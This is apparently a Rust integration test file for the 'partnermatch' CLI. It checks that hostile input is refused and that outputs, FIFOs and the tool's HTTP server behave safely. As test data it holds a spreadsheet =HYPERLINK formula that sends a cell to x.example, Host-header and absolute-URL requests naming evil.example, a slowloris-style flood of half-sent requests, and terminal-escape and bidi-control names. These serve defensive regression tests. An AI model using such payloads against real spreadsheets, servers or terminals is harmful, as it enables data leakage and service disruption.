//! Hostile input through the binary: every case gets a located error, exit 2 and no output
//! written; and a run killed mid-write leaves no partial file.

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use crate::harness::Test;

const PROFILE: &str = "id = \"H1\"\nname = \"Hostile Council\"\nsector = \"local_government\"\nlocation = { lat = 51.0, lon = -1.0 }\n";

/// Files in a folder other than the inputs named.
fn leftovers(dir: &Path, inputs: &[&str]) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !inputs.contains(&n.as_str()))
        .collect()
}

/// Runs `validate` on a TOML file and `import` on a CSV, expecting exit 2, the fragments on
/// standard error and nothing written.
#[track_caller]
fn refused(name: &str, contents: impl AsRef<[u8]>, fragments: &[&str]) {
    let is_csv = name.ends_with(".csv");
    let args: Vec<&str> = if is_csv {
        vec!["import", name, "--out", "out.toml"]
    } else {
        vec!["validate", "--data", name]
    };
    let out = Test::new().file(name, contents).args(&args).run();
    out.code(2).no_panic();
    let stderr = out.stderr();
    assert!(
        stderr.contains(&format!("{name}:")) || stderr.contains(name),
        "the file is not named:\n{stderr}"
    );
    for f in fragments {
        out.stderr_has(f);
    }
    assert!(
        leftovers(out.dir(), &[name]).is_empty(),
        "something was written: {:?}",
        leftovers(out.dir(), &[name])
    );
}

#[test]
fn truncated_files_are_located() {
    refused("cut.toml", &PROFILE[..40], &["cut.toml:3:", "invalid TOML"]);
    refused(
        "cut.csv",
        "id,name,lat,lon,sector\nH1,\"Hostile Coun",
        &["cut.csv:2:", "row 1", "missing quote"],
    );
}

#[test]
fn huge_files_are_refused_before_reading() {
    let t = Test::new();
    let path = t.dir().join("huge.toml");
    let file = std::fs::File::create(&path).unwrap();
    file.set_len(257 * 1024 * 1024).unwrap();
    drop(file);
    let out = t.args(["validate", "--data", "huge.toml"]).run();
    out.code(2).no_panic().stderr_has("huge.toml: file is larger than the limit of 256 MiB");
    // A table with no line breaks is not read as one giant row.
    let mut line = String::from("id,name,lat,lon\n");
    line.push_str(&"x".repeat(2 << 20));
    refused("oneline.csv", line, &["longer than 1 MiB"]);
}

/// Issue 20, item 9: an import whose TOML `--data` could not read back (over 256 MiB) is
/// refused before anything is written, pointing to the table as the dataset. The rows here are
/// 900 KB each, just under the 1 MiB row limit, so the same test pins that rows under the limit
/// are read even when they follow one another.
#[test]
fn import_refuses_toml_that_could_not_be_read_back() {
    let name = "x".repeat(900_000);
    let mut table = String::with_capacity(300 * 900_100);
    table.push_str("id,name,sector,lat,lon\n");
    for i in 0..300 {
        writeln!(table, "B{i},{name},police,50,0").unwrap();
    }
    let t = Test::new().file("big.csv", &table);
    drop(table);
    let out = t.args(["import", "big.csv", "--out", "big.toml"]).run();
    out.code(2)
        .no_panic()
        .stderr_has("the profiles of 300 bodies take")
        .stderr_has("over the 256 MiB limit")
        .stderr_has("--data big.csv")
        .stderr_has("nothing was written");
    assert!(leftovers(out.dir(), &["big.csv"]).is_empty(), "something was written");
}

#[test]
fn deep_nesting_is_refused() {
    let deep = format!("{PROFILE}notes = {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
    refused("deep.toml", deep, &["deep.toml:5:", "recursion"]);
    let tables = format!("a = {}1{}\n", "{b=".repeat(50_000), "}".repeat(50_000));
    refused("tables.toml", tables, &["tables.toml:1:", "invalid TOML"]);
}

#[test]
fn binary_junk_is_refused() {
    let junk: Vec<u8> =
        (0..200_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    refused("junk.toml", &junk, &["not valid UTF-8"]);
    let mut csv = b"id,name,lat,lon\n".to_vec();
    csv.extend_from_slice(&junk);
    refused("junk.csv", csv, &["not a text table"]);
}

#[test]
fn wrong_encodings_are_named() {
    let utf16: Vec<u8> =
        [0xff, 0xfe].into_iter().chain(PROFILE.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    refused("utf16.toml", &utf16, &["utf16.toml:1:1", "UTF-16"]);
    let latin1 = PROFILE.replace("Hostile", "Caf\u{e9}").replace('\u{e9}', "\u{1}");
    let latin1: Vec<u8> = latin1.bytes().map(|b| if b == 1 { 0xe9 } else { b }).collect();
    refused("latin1.toml", &latin1, &["latin1.toml:2:", "not valid UTF-8"]);
}

#[test]
fn nan_and_infinite_numbers_are_refused() {
    refused(
        "nan.toml",
        PROFILE.replace("lat = 51.0", "lat = nan"),
        &["nan.toml:4:", "location.lat", "finite"],
    );
    refused("inf.toml", format!("{PROFILE}population = inf\n"), &["inf.toml:5:", "population"]);
    refused(
        "sev.toml",
        format!("{PROFILE}barriers = {{ job_losses = -nan }}\n"),
        &["sev.toml:5:", "barriers.job_losses"],
    );
    refused(
        "nan.csv",
        "id,name,lat,lon,sector\nH1,Hostile,NaN,0,police\n",
        &["nan.csv:2:", "row 1, column `lat`", "finite"],
    );
    refused(
        "inf.csv",
        "id,name,lat,lon,sector\nH1,Hostile,1e999,0,police\n",
        &["inf.csv:2:", "finite"],
    );
}

#[test]
fn extreme_coordinates_are_handled() {
    refused(
        "far.toml",
        PROFILE.replace("lat = 51.0", "lat = 1e308"),
        &["far.toml:4:", "outside [-90, 90]"],
    );
    // The poles and the antimeridian are valid places; ranking across them must not fail.
    let poles = "id,name,lat,lon,sector\nN,North,90,180,police\nS,South,-90,-180,police\nE,Edge,0,180,police\nW,West,0,-180,police\n";
    let out = Test::new()
        .file("poles.csv", poles)
        .args(["rank", "N", "--format", "json"])
        .data("poles.csv")
        .run();
    out.code(0).no_panic();
    let doc: serde_json::Value = serde_json::from_str(&out.stdout()).unwrap();
    let far = doc["candidates"].as_array().unwrap().iter().find(|c| c["id"] == "S").unwrap();
    assert!(
        (far["distance_km"].as_f64().unwrap() - 20015.1).abs() < 1.0,
        "pole to pole is half the circumference"
    );
}

#[test]
fn a_million_row_table_with_one_bad_row_at_the_end() {
    let mut text = String::with_capacity(40_000_000);
    text.push_str("id,name,lat,lon,sector\n");
    for i in 0..999_999u32 {
        let _ = writeln!(
            text,
            "M{i},Body {i},{:.3},{:.3},police",
            50.0 + f64::from(i % 1000) * 0.008,
            -4.0 + f64::from(i / 1000) * 0.008
        );
    }
    text.push_str("LAST,Last Body,51,0,polise\n");
    refused(
        "million.csv",
        text,
        &["million.csv:1000001:", "row 1000000, column `sector`", "did you mean \"police\""],
    );
}

#[test]
fn duplicate_ids_at_scale_are_reported_without_flooding() {
    let mut text = String::from("id,name,lat,lon,sector\n");
    for i in 0..100_000u32 {
        let _ = writeln!(text, "DUP,Body {i},51,0,police");
    }
    let out =
        Test::new().file("dup.csv", &text).args(["import", "dup.csv", "--out", "out.toml"]).run();
    out.code(2)
        .no_panic()
        .stderr_has("duplicate id \"DUP\"")
        .stderr_has("more problems not shown")
        .stderr_has("99999 problems found");
    assert!(out.stderr().lines().count() < 2_000, "the error list is capped");
    assert!(!out.dir().join("out.toml").exists());
}

#[test]
fn cyclic_and_self_references_are_refused() {
    let cycle = "id,name,lat,lon,sector,parent\nA,Alpha,51,0,police,B\nB,Beta,51,0,police,C\nC,Gamma,51,0,police,A\n";
    refused("cycle.csv", cycle, &["cycle.csv:2:", "parent links form a cycle: A -> B -> C -> A"]);
    let selfish = "id,name,lat,lon,sector,partners,neighbours\nA,Alpha,51,0,police,A,A\n";
    refused("self.csv", selfish, &["own partner", "own neighbour"]);
    refused("self.toml", format!("{PROFILE}parent = \"H1\"\n"), &["self.toml:5:", "own parent"]);
}

/// A long `rank-all` killed mid-run leaves neither its output nor a temporary file.
#[test]
fn a_run_killed_mid_write_leaves_no_partial_file() {
    let t = Test::new();
    let mut table = String::from("id,name,lat,lon,sector\n");
    for i in 0..40_000u32 {
        let _ = writeln!(
            table,
            "K{i},Body {i},{:.4},{:.4},local_government",
            50.0 + f64::from(i % 200) * 0.02,
            -4.0 + f64::from(i / 200) * 0.02
        );
    }
    std::fs::File::create(t.dir().join("bodies.csv")).unwrap().write_all(table.as_bytes()).unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_partnermatch"))
        .current_dir(t.dir())
        .args([
            "--data",
            "bodies.csv",
            "rank-all",
            "--brute-force",
            "--top",
            "50",
            "--out",
            "out.csv",
            "--quiet",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(2500));
    assert!(child.try_wait().unwrap().is_none(), "the run must still be going when killed");
    child.kill().unwrap();
    child.wait().unwrap();
    assert_eq!(leftovers(t.dir(), &["bodies.csv"]), Vec::<String>::new());
}

// ---- Issue 20: one regression test per defect, each reproduction pinned. ----

/// Issue 20, item 1: `report --out` replaced an existing file without `--force`.
#[test]
fn report_refuses_to_replace_a_file_without_force() {
    let out = Test::new()
        .file("notes.html", "keep")
        .args(["report", "adur", "--out", "notes.html"])
        .run();
    out.code(2).no_panic().stderr_has("notes.html exists; pass --force to replace it");
    assert_eq!(std::fs::read_to_string(out.dir().join("notes.html")).unwrap(), "keep");
    let forced = Test::new()
        .file("notes.html", "keep")
        .args(["report", "adur", "--out", "notes.html", "--force"])
        .run();
    forced.code(0);
    assert!(std::fs::read_to_string(forced.dir().join("notes.html")).unwrap().contains("<html"));
}

/// Makes a FIFO with `mkfifo` (any user may).
fn mkfifo(path: &Path) {
    let status = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(status.success(), "mkfifo failed");
}

/// Issue 20, item 2: writing an output replaced device nodes, FIFOs and symbolic links with
/// regular files, and `--out -` made a file named `-`.
#[cfg(unix)]
#[test]
fn outputs_write_into_devices_and_fifos_and_through_links() {
    use std::os::unix::fs::FileTypeExt;
    // A character device: a copy of /dev/null where the system allows making one (as root),
    // else a link to the system's own.
    let t = Test::new();
    let made = Command::new("mknod")
        .args(["-m", "666"])
        .arg(t.dir().join("mynull"))
        .args(["c", "1", "3"])
        .status()
        .is_ok_and(|s| s.success());
    if !made {
        std::os::unix::fs::symlink("/dev/null", t.dir().join("mynull")).unwrap();
    }
    let out = t.args(["report", "adur", "--out", "mynull"]).run();
    out.code(0).no_panic();
    let meta = std::fs::metadata(out.dir().join("mynull")).unwrap();
    assert!(meta.file_type().is_char_device(), "the device is still a device");
    assert!(std::fs::metadata("/dev/null").unwrap().file_type().is_char_device());

    // A FIFO, with and without --force: the reader gets the output, the FIFO stays.
    for force in [false, true] {
        let t = Test::new();
        let fifo = t.dir().join("pipe");
        mkfifo(&fifo);
        let reader = {
            let fifo = fifo.clone();
            std::thread::spawn(move || std::fs::read_to_string(fifo).unwrap())
        };
        let mut args = vec!["rank-all", "--top", "2", "--out", "pipe", "--quiet"];
        if force {
            args.push("--force");
        }
        let out = t.args(args).run();
        out.code(0).no_panic();
        let text = reader.join().unwrap();
        assert!(text.starts_with("id,rank,candidate_id"), "{text:.200}");
        assert!(std::fs::symlink_metadata(&fifo).unwrap().file_type().is_fifo());
    }

    // A symbolic link to a file: the file is replaced (with --force), the link kept.
    let t = Test::new().file("real.csv", "old");
    std::os::unix::fs::symlink("real.csv", t.dir().join("link.csv")).unwrap();
    let out =
        t.args(["pairs", "--region", "South East", "--format", "csv", "--out", "link.csv"]).run();
    out.code(2).stderr_has("pass --force");
    assert_eq!(std::fs::read_to_string(out.dir().join("real.csv")).unwrap(), "old");
    let t = Test::new().file("real.csv", "old");
    std::os::unix::fs::symlink("real.csv", t.dir().join("link.csv")).unwrap();
    let out = t
        .args([
            "pairs",
            "--region",
            "South East",
            "--format",
            "csv",
            "--out",
            "link.csv",
            "--force",
        ])
        .run();
    out.code(0);
    assert!(
        std::fs::symlink_metadata(out.dir().join("link.csv")).unwrap().file_type().is_symlink()
    );
    assert!(std::fs::read_to_string(out.dir().join("real.csv")).unwrap().starts_with("status,"));

    // A dangling link and a directory are refused before any work.
    let t = Test::new();
    std::os::unix::fs::symlink("missing/x.csv", t.dir().join("dangling.csv")).unwrap();
    t.args(["rank-all", "--out", "dangling.csv", "--force"])
        .run()
        .code(2)
        .stderr_has("does not exist");

    // A scenario run is a folder of files: `--out -` is refused, not made into a folder.
    let t = Test::new().file("s.toml", "name = \"s\"\ntop = 1\n[subjects]\nbodies = [\"adur\"]\n");
    let out = t.args(["scenario", "run", "s.toml", "--out", "-"]).run();
    out.code(2).stderr_has("cannot go to standard output");
    assert!(!out.dir().join("-").exists());

    // `--out -` is standard output in every command that has --out.
    for args in [
        vec!["rank-all", "--top", "1", "--out", "-", "--quiet"],
        vec!["pairs", "--region", "South East", "--out", "-", "--quiet"],
        vec!["groups", "--service", "legal", "--region", "South East", "--out", "-", "--quiet"],
        vec!["report", "adur", "--out", "-"],
        vec!["generate", "--bodies", "10", "--out", "-"],
    ] {
        let out = Test::new().args(&args).run();
        out.code(0).no_panic();
        assert!(!out.stdout().is_empty(), "{args:?} wrote nothing to standard output");
        assert!(!out.dir().join("-").exists(), "{args:?} made a file named -");
    }
}

/// Issue 20, item 3: every comma was stripped from every number (`5,1` became 51).
#[test]
fn decimal_commas_are_refused_unless_asked_for() {
    let eu = "id;name;sector;lat;lon;area_km2;population\nA1;Alpha;police;5,1;-1,25;1,5;64187\n";
    let out = Test::new()
        .file("eu.csv", eu)
        .args(["import", "eu.csv", "--delimiter", ";", "--out", "-"])
        .run();
    out.code(2)
        .no_panic()
        .stderr_has("eu.csv:2:4: row 1, column `lat`: \"5,1\" is not a finite number")
        .stderr_has("eu.csv:2:5: row 1, column `lon`: \"-1,25\"")
        .stderr_has("column `area_km2`")
        .stderr_has("--decimal-comma");
    assert!(out.stdout().is_empty());
    let out = Test::new()
        .file("eu.csv", eu)
        .args(["import", "eu.csv", "--delimiter", ";", "--decimal-comma", "--out", "-"])
        .run();
    out.code(0)
        .stdout_has("location = { lat = 5.1, lon = -1.25 }")
        .stdout_has("area_km2 = 1.5")
        .stdout_has("population = 64187");
    // Thousands groups only where the docs allow them, and only well-formed.
    refused(
        "groups.csv",
        "id,name,sector,lat,lon,population\nA1,Alpha,police,51,0,\"1,2,3\"\n",
        &["groups.csv:2:6", "\"1,2,3\" is not a finite number", "grouped in threes"],
    );
    let out = Test::new()
        .file("ok.csv", "id,name,sector,lat,lon,population,budget_gbp\nA1,Alpha,police,51,0,\"1,234,567\",\"£64,187.50\"\n")
        .args(["import", "ok.csv", "--out", "-"])
        .run();
    out.code(0).stdout_has("population = 1234567").stdout_has("budget_gbp = 64187.5");
}

/// Issue 20, items 4 and 10: tables are refused by their size before they are read, and a
/// quoted cell that never closes hits the per-row limit instead of swallowing the file.
#[test]
fn oversized_tables_and_rows_are_refused_before_memory_runs_out() {
    let t = Test::new();
    let file = std::fs::File::create(t.dir().join("huge.csv")).unwrap();
    file.set_len((4 << 30) + 1).unwrap();
    drop(file);
    let out = t.args(["import", "huge.csv", "--out", "out.toml"]).run();
    out.code(2).no_panic().stderr_has("huge.csv: the table is larger than the limit of 4 GiB");
    let mut open_quote = String::from("id,name,lat,lon,sector\nA1,\"Alpha\n");
    for _ in 0..600_000 {
        open_quote.push_str("xx\n");
    }
    refused("quote.csv", open_quote, &["longer than 1 MiB", "quote that is never closed"]);
}

/// Issue 20, item 5: a killed `scenario run` left `.partnermatch-stage-*` folders that no
/// later run removed. A stage whose process is gone is removed by the next run into the same
/// place; a new output folder appears whole.
#[test]
fn stale_scenario_stages_are_removed_by_the_next_run() {
    let scenario = "name = \"small\"\ntop = 2\n[subjects]\nbodies = [\"adur\"]\n";
    // Process ids on Linux stay below 2^22, so this one cannot be running.
    let stale = ".partnermatch-stage-4999999-abc";
    let t = Test::new()
        .file("s.toml", scenario)
        .file(&format!("runs/{stale}/small/rankings.json"), "partial")
        .file(&format!("{stale}/runs/small/rankings.json"), "partial");
    let out = t.args(["scenario", "run", "s.toml", "--out", "runs"]).run();
    out.code(0).no_panic();
    assert!(out.dir().join("runs/small/rankings.json").is_file());
    assert_eq!(leftovers(&out.dir().join("runs"), &["small"]), Vec::<String>::new());
    assert_eq!(leftovers(out.dir(), &["s.toml", "runs"]), Vec::<String>::new());
}

/// Whether a spreadsheet would run a CSV cell as a formula (a negative number is a number).
fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '@', '+']) || (cell.starts_with('-') && cell.parse::<f64>().is_err())
}

/// Issue 20, item 6: names beginning with `=`, `@`, `+` or `-` went unchanged into every CSV,
/// where a spreadsheet runs them as formulas.
#[test]
fn csv_cells_that_look_like_formulas_are_written_as_text() {
    let table = "id,name,lat,lon,sector\nA1,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",51,-1,police\nB1,@SUM(1+1),51.1,-1.1,police\nC1,-2+3,51.2,-1.2,police\n";
    let csv_of = |args: &[&str]| {
        let out = Test::new().file("inj.csv", table).data("inj.csv").args(args).run();
        out.code(0).no_panic();
        out.stdout()
    };
    for args in [
        &["list", "--format", "csv"][..],
        &["rank", "A1", "--format", "csv"],
        &["pairs", "--format", "csv", "--quiet"],
        &["groups", "--service", "legal", "--format", "csv", "--quiet"],
        &["robustness", "A1", "--format", "csv", "--samples", "100"],
    ] {
        let text = csv_of(args);
        for line in text.lines().skip(1) {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches('"');
                assert!(
                    !runs_as_formula(cell),
                    "{args:?}: a cell a spreadsheet would run: {cell:?} in {line}"
                );
            }
        }
        assert!(
            text.contains("'@SUM(1+1)") || text.contains("'=HYPERLINK") || text.contains("'-2+3"),
            "{args:?}: {text}"
        );
    }
    // Numbers stay numbers: a negative longitude is not quoted.
    assert!(csv_of(&["list", "--format", "csv"]).contains(",51.0,-1.0,"));
    // The page's CSV download (the API's `format=csv`).
    let t = Test::new().file("inj.csv", table);
    let data = t.dir().join("inj.csv").display().to_string();
    let server = crate::harness::Server::start(&["--data", &data]);
    let reply = server.get("/api/rank?body=A1&format=csv");
    assert_eq!(reply.status, 200);
    let text = reply.text();
    assert!(text.contains("'@SUM(1+1)") && !text.contains(",@SUM"), "{text}");
    drop(server);
    // The scenario's rankings.csv.
    let scenario = "name = \"inj\"\ndataset = \"inj.csv\"\ntop = 2\n";
    let out = Test::new()
        .file("inj.csv", table)
        .file("s.toml", scenario)
        .args(["scenario", "run", "s.toml", "--out", "runs"])
        .run();
    out.code(0);
    let rankings = std::fs::read_to_string(out.dir().join("runs/inj/rankings.csv")).unwrap();
    assert!(rankings.contains("'@SUM(1+1)") && !rankings.contains(",@SUM"), "{rankings}");
}

/// Issue 20, item 7: a profile with 80,000 neighbour ids took 23 s to refuse, and a sweep of
/// 40,000 values 90 s. The work is linear; this checks the outcome (every problem found,
/// the sweep refused by its size), and `benches/validation.rs` measures the time.
#[test]
fn long_lists_are_refused_whole() {
    let ids: Vec<String> = (0..80_000).map(|i| format!("\"N{i}\"")).collect();
    let profile = format!("{PROFILE}neighbours = [{}]\n", ids.join(","));
    let out =
        Test::new().file("many.toml", &profile).args(["validate", "--data", "many.toml"]).run();
    out.code(2).no_panic().stderr_has("many.toml:5:").stderr_has("80000 problems found");
    let values: Vec<String> =
        (0..40_000).map(|i| format!("{}", 1.0 + f64::from(i) / 1e5)).collect();
    let sweep = format!("name = \"s\"\n[sweep]\nexponent = [{}]\n", values.join(","));
    let out =
        Test::new().file("s.toml", sweep).args(["scenario", "run", "s.toml", "--out", "r"]).run();
    out.code(2)
        .no_panic()
        .stderr_has("s.toml:3:1")
        .stderr_has("has 40000 values, more than 1000 runs");
}

/// Issue 20, item 8: `A1` and `a1` both validated, but lookup ignores case.
#[test]
fn ids_that_differ_only_in_case_are_refused_with_both_places() {
    refused(
        "case.csv",
        "id,name,lat,lon,sector\nA1,Alpha,51,0,police\na1,Beta,51,0,police\n",
        &["case.csv:3:1", "id \"a1\" differs only in case from \"A1\", defined at", "case.csv:2:1"],
    );
    let two =
        format!("[[organisation]]\n{PROFILE}\n[[organisation]]\n{}", PROFILE.replace("H1", "h1"));
    refused(
        "case.toml",
        two,
        &["case.toml:8:6", "differs only in case from \"H1\", defined at case.toml:2:6"],
    );
}

/// Issue 20, item 11: two Host headers, a target naming another host, and connections that
/// send half a request.
#[test]
fn the_server_refuses_ambiguous_addressing_and_sheds_slow_clients() {
    use std::io::Read;
    let server = crate::harness::Server::start(&[]);
    let send = |raw: &str| {
        let mut stream = std::net::TcpStream::connect(&server.addr).unwrap();
        stream.write_all(raw.as_bytes()).unwrap();
        let mut reply = String::new();
        stream.read_to_string(&mut reply).unwrap();
        reply
    };
    let two_hosts = send(&format!(
        "GET /api/meta HTTP/1.1\r\nHost: {}\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
        server.addr
    ));
    assert!(two_hosts.starts_with("HTTP/1.1 400"), "{two_hosts}");
    assert!(two_hosts.contains("2 Host headers"), "{two_hosts}");
    let absolute = send(&format!(
        "GET http://evil.example/api/meta HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
        server.addr
    ));
    assert!(absolute.starts_with("HTTP/1.1 400"), "{absolute}");
    let own = send(&format!(
        "GET http://{0}/api/meta HTTP/1.1\r\nHost: {0}\r\nConnection: close\r\n\r\n",
        server.addr
    ));
    assert!(own.starts_with("HTTP/1.1 200"), "{own}");
    // 300 connections (more than the cap of 256) each send half a request and wait.
    let mut slow: Vec<std::net::TcpStream> = (0..300)
        .map(|_| {
            let mut s = std::net::TcpStream::connect(&server.addr).unwrap();
            let _ = s.write_all(b"GET /api/meta HTTP/1.1\r\nHost: 127.0.0.1\r\n");
            s
        })
        .collect();
    // A whole request still gets its answer: the half-sent ones are dropped at the header
    // deadline, freeing their places.
    assert_eq!(server.get("/api/meta").status, 200);
    // And the server closed the first of them without answering.
    let first = &mut slow[0];
    first.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
    let mut buf = Vec::new();
    let closed = first.read_to_end(&mut buf);
    assert!(closed.is_ok(), "the server closes a half-sent request: {closed:?}");
    assert!(buf.is_empty() || String::from_utf8_lossy(&buf).starts_with("HTTP/1.1 408"), "{buf:?}");
}

/// Issue 20, item 12: control characters in names reached the terminal.
#[test]
fn control_characters_in_names_are_refused() {
    refused(
        "esc.toml",
        PROFILE.replace("Hostile Council", "Evil\\u001b]0;pwned\\u0007"),
        &["esc.toml:2:8", "control character (U+001B)"],
    );
    refused(
        "bidi.toml",
        format!("{PROFILE}short_name = \"abc\\u202e\"\n"),
        &["bidi.toml:5:", "bidirectional control (U+202E)"],
    );
    refused(
        "bell.csv",
        "id,name,lat,lon,sector\nA1,Ding\u{7},51,0,police\n",
        &["bell.csv:2:2", "U+0007"],
    );
    // What the user typed is echoed in errors with its control characters escaped.
    let out = Test::new().args(["rank", "nowhere\u{1b}[2J"]).run();
    out.code(2).no_panic();
    assert!(!out.stderr().contains('\u{1b}'), "{:?}", out.stderr());
    out.stderr_has("\\u{1b}[2J");
}

/// Issue 20, item 13: every problem in one run.
#[test]
fn all_problems_are_reported_in_one_run() {
    let scenario =
        "name = \"two\"\ntop = 0\n[[override]]\nbodies = [\"Nowhere Council\"]\npopulation = 5\n";
    let out = Test::new()
        .file("s.toml", scenario)
        .args(["scenario", "run", "s.toml", "--out", "r"])
        .run();
    out.code(2)
        .no_panic()
        .stderr_has("s.toml:2:7")
        .stderr_has("s.toml:4:11")
        .stderr_has("unknown body \"Nowhere Council\"");
    assert!(!out.dir().join("r").exists());
    // The bodies of a broken file are looked up in its dataset with its profile layers, so a
    // body a layer adds is known and an unknown one is still reported in the same run.
    let layer = "id = \"NEW1\"\nname = \"Newtown Council\"\nsector = \"local_government\"\n\
                 location = { lat = 51.0, lon = -1.0 }\n";
    let scenario = "name = \"layered\"\ntop = 0\nprofiles = [\"our.toml\"]\n[subjects]\n\
                    bodies = [\"Newtown Council\", \"Nowhere Council\"]\n";
    let out = Test::new()
        .file("our.toml", layer)
        .file("s.toml", scenario)
        .args(["scenario", "run", "s.toml", "--out", "r"])
        .run();
    out.code(2).no_panic().stderr_has("s.toml:2:7").stderr_has("unknown body \"Nowhere Council\"");
    assert!(!out.stderr().contains("\"Newtown Council\""), "{}", out.stderr());
    let out = Test::new()
        .file("t.csv", "id,name,lat,lon,sector\nA1,Alpha,51,0,polise\nB1,Beta,51,0,police\n")
        .file("edges.csv", "a,b\nA1,ZZ9\n")
        .args(["import", "t.csv", "--neighbours", "edges.csv", "--out", "out.toml"])
        .run();
    out.code(2)
        .no_panic()
        .stderr_has("did you mean \"police\"")
        .stderr_has("neighbour \"ZZ9\" is not a known body");
}

/// Issue 20, item 14: scenario names that are not folder names everywhere.
#[test]
fn scenario_names_must_be_folder_names_everywhere() {
    for name in ["CON", "nul", "com1", "Aux.old", "a."] {
        let out = Test::new()
            .file("s.toml", format!("name = \"{name}\"\n"))
            .args(["scenario", "run", "s.toml", "--out", "r"])
            .run();
        out.code(2).no_panic().stderr_has("s.toml:1:8").stderr_has("is not safe as a folder name");
        assert!(!out.dir().join("r").exists());
    }
}

/// Issue 20, item 15: `rank --top 0` said no candidate passed the filters.
#[test]
fn top_zero_is_a_usage_error() {
    for args in [
        &["rank", "adur", "--top", "0"][..],
        &["rank-all", "--top", "0"],
        &["robustness", "adur", "--top", "0"],
        &["pairs", "--candidates", "0"],
        &["report", "adur", "--top", "0", "--out", "r.html"],
    ] {
        let out = Test::new().args(args).run();
        out.code(2).no_panic();
        assert!(out.stdout().is_empty());
    }
}

/// Issue 20, item 16: UTF-16 tables are named as UTF-16 (with or without a byte-order mark),
/// and deeply dotted keys are located.
#[test]
fn utf16_tables_and_deep_dotted_keys_are_located() {
    let text = "id,name,lat,lon,sector\nA1,Alpha,51,0,police\n";
    let bom: Vec<u8> =
        [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    refused("bom.csv", bom, &["bom.csv:1:1", "UTF-16"]);
    let bare: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    refused("bare.csv", bare, &["bare.csv:1:1", "UTF-16"]);
    let dotted = format!("{PROFILE}x{} = 1\n", ".y".repeat(300));
    refused("dotted.toml", dotted, &["dotted.toml:5:1", "recursion limit"]);
}

#[test]
fn damaged_truncated_stale_and_foreign_packs_are_refused() {
    let made =
        Test::new().args(["generate", "--bodies", "300", "--seed", "3", "--out", "d.csv"]).run();
    made.code(0);
    let dir = made.dir();
    let out = Test::new()
        .args(["pack"])
        .args([dir.join("d.csv").to_str().unwrap(), "--out", dir.join("d.pmd").to_str().unwrap()])
        .run();
    out.code(0).no_panic();
    let good = std::fs::read(dir.join("d.pmd")).unwrap();
    let mut flipped = good.clone();
    let middle = flipped.len() / 2;
    flipped[middle] ^= 0x04;
    let mut version = good.clone();
    version[8] = 99;
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("truncated.pmd", good[..good.len() - 100].to_vec(), "truncated"),
        ("header_only.pmd", good[..30].to_vec(), "truncated"),
        ("flipped.pmd", flipped, "checksum does not match"),
        ("stale.pmd", version, "format version 99"),
        ("foreign.pmd", b"id,name\nA,B\n".to_vec(), "not a partnermatch pack"),
        ("empty.pmd", Vec::new(), "not a partnermatch pack"),
        (
            "junk.pmd",
            (0..5000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect(),
            "not a partnermatch pack",
        ),
    ];
    for (name, bytes, fragment) in cases {
        for command in [&["validate"][..], &["rank-all", "--top", "3"][..]] {
            let out = Test::new()
                .file(name, &bytes)
                .args(command.iter().copied())
                .args(["--data", name])
                .run();
            out.code(2)
                .no_panic()
                .stderr_has(name)
                .stderr_has(fragment)
                .stderr_has("re-run `partnermatch pack`");
        }
    }
}
